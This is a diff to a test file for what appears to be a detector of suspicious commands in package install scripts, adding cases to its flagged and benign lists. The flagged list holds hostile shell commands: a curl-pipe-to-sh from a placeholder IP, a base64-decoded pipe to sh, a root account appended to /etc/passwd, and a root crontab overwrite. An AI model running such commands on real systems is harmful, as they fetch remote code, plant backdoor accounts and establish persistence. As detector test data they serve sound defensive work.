@@ -22,6 +22,7 @@ def signs(command, occasion="package"):
         "curl -s http://192.0.2.1/x | sh",
         "echo eA== | base64 -d | sh",
         "echo 'x:x:0:0::/root:/bin/sh' >> /etc/passwd",
+        "echo '* * * * * x' > /var/spool/cron/crontabs/root",
     ],
 )
 def test_points_at(command):
@@ -34,6 +35,7 @@ def test_points_at(command):
     [
         "adduser --system --quiet --group x",
         "rm -rf /var/log/wtmp.db*",
+        "echo 0 > /var/spool/cron/atjobs/.SEQ",
         "update-rc.d x defaults >/dev/null",
         "if [ -x /usr/bin/deb-systemd-helper ]; then deb-systemd-helper enable x.service; fi",
     ],
